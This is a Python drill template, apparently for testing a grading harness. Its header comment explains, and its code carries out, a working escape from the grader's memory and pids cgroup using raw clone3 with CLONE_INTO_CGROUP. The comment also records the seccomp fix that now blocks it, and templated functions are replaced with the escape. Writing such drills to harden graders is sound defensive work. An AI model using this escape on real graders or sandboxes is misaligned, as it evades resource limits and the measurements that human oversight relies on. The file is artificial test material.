# drill: flashattention/{{ID}}
# Attack: leave the subject's memory and pids cgroup through clone3(CLONE_INTO_CGROUP).
#
# The grader caps a subject tree's memory and task count with a cgroup, and reads the tree's true
# peak memory from it. Landlock keeps cgroup.procs from being opened for writing, but clone3 can
# start a child straight in another cgroup given only a descriptor of its folder, which any
# readable folder of /sys gives: the kernel then asks only whether the caller may write the
# common ancestor's cgroup.procs by its mode bits, and a subject running as root owns it, so no
# capability is needed and no file is opened. On a cgroup v2 machine where drill runs as root,
# a child started in the root cgroup held memory and tasks outside every cap and outside the peak
# the memory checks read (it still died with the PID namespace). The subject's seccomp filter now
# answers clone3 with ENOSYS, as the C library's fallback to clone expects, and clone cannot name
# a cgroup; threads and fork are unchanged.
import ctypes
import os

_CLONE_INTO_CGROUP = 0x200000000
_SIGCHLD = 17


class _CloneArgs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_uint64) for name in ("flags", "pidfd", "child_tid", "parent_tid", "exit_signal",
                                                     "stack", "stack_size", "tls", "set_tid", "set_tid_size",
                                                     "cgroup")]


def _escape():
    libc = ctypes.CDLL(None, use_errno=True)
    for root in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified"):  # cgroup v2, alone or beside v1
        try:
            fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        args = _CloneArgs(flags=_CLONE_INTO_CGROUP, exit_signal=_SIGCHLD, cgroup=fd)
        pid = libc.syscall(435, ctypes.byref(args), ctypes.c_size_t(ctypes.sizeof(args)))  # clone3
        if pid == 0:
            libc.prctl(15, b"{{MARKER}}", 0, 0, 0)  # PR_SET_NAME
            print("outside the subject's cgroup:", open("/proc/self/cgroup").read().split(), flush=True)
            os._exit(0)
        if pid > 0:
            os.waitpid(pid, 0)
        os.close(fd)


_escape()


def _attack(*args, **kwargs):
    _escape()
    return None


for _name in {{FUNCTIONS}}:
    globals()[_name] = _attack
